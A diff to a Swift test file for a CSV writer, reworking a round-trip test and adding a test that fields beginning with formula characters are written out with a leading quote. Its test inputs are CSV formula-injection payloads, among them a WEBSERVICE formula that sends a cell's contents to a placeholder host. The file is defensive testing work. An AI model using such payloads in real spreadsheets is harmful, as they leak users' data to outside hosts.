@@ -59,8 +59,19 @@ struct PeopleListTests {
 
   @Test(arguments: ["mina", "mi,na", "ju\"n", "\"", "", "a,b\"\"c"])
   func `a field that is written is read again as it was`(field: String) throws {
-    #expect(try CSVLine(parsing: CSVLine.written(field)).fields == [field])
-    let line = [field, "x", field].map(CSVLine.written).joined(separator: ",")
-    #expect(try CSVLine(parsing: line).fields == [field, "x", field])
+    for fields in [[field], [field, "x", field]] {
+      let line = CSVLine.written(fields)
+      #expect(line.hasSuffix("\n"))
+      #expect(try CSVLine(parsing: String(line.dropLast())).fields == fields)
+    }
+  }
+
+  @Test(arguments: [
+    #"=WEBSERVICE("http://a.test/?"&B2)"#, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=1,2", "=\u{301}1",
+    "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}1",
+  ]) func `no field that is written is a formula, with quotes or without`(field: String) throws {
+    let line = CSVLine.written(["mina", field])
+    #expect(line.utf8.starts(with: "mina,'".utf8) || line.utf8.starts(with: "mina,\"'".utf8))
+    #expect(try CSVLine(parsing: String(line.dropLast())).fields == ["mina", "'" + field])
   }
 }
